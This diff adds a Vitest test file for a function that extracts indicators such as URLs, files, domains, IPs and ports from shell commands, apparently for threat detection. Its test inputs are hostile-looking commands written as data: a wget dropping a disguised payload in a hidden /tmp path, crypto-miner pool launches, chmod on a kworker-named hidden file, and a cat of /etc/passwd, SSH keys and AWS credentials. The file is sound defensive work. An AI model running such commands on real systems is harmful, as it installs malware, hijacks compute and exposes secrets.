@@ -1,0 +1,44 @@
+import { describe, expect, test } from 'vitest';
+import { commandTraces } from './command-traces.ts';
+
+const told = (command: string): readonly string[] =>
+  commandTraces(command).map(({ type, value }) => `${type} ${value}`);
+
+describe('a command names', () => {
+  test.each<[string, string, readonly string[]]>([
+    [
+      'what was fetched, and where to',
+      '/usr/bin/wget -q https://files.example.net/raw/x -O /tmp/.systemd/systemd-update',
+      ['url https://files.example.net/raw/x', 'file /tmp/.systemd/systemd-update'],
+    ],
+    [
+      'a pool, by name and port',
+      './x -o stratum+tcp://Pool.example.net:3333 --donate-level 1',
+      ['domain pool.example.net', 'port 3333'],
+    ],
+    ['a pool by its address', 'x -o stratum+ssl://203.0.113.9:443', ['ip 203.0.113.9', 'port 443']],
+    ['a link once', 'curl http://203.0.113.9/a || wget http://203.0.113.9/a', ['url http://203.0.113.9/a']],
+    [
+      'a link without what it carries',
+      'curl https://u:secret@example.net/a?token=secret',
+      ['url https://example.net/a'],
+    ],
+    [
+      'hidden files',
+      'chmod +x /usr/lib/.cache-x/kworker; /dev/shm/a',
+      ['file /usr/lib/.cache-x/kworker', 'file /dev/shm/a'],
+    ],
+    ['ordinary files', 'cat /home/alice/.ssh/authorized_keys /etc/passwd /home/alice/.aws/credentials', []],
+    ['its own network', 'curl http://build.internal/x https://repo.corp/y http://localhost:8080/z', []],
+    ['text that only looks like it', 'echo a://b http:// ../../tmp/x key=/etc/tmpfiles.d/x.conf', []],
+    ['nothing', 'apt update', []],
+  ])('%s', (_, command, expected) => expect(told(command)).toEqual(expected));
+
+  test('and time to read it grows with its length only', () => {
+    const before = performance.now();
+    commandTraces('/a/.'.repeat(50_000));
+    commandTraces(`/tmp/${'x/'.repeat(50_000)}`);
+    commandTraces('a://'.repeat(50_000));
+    expect(performance.now() - before).toBeLessThan(2_000);
+  });
+});
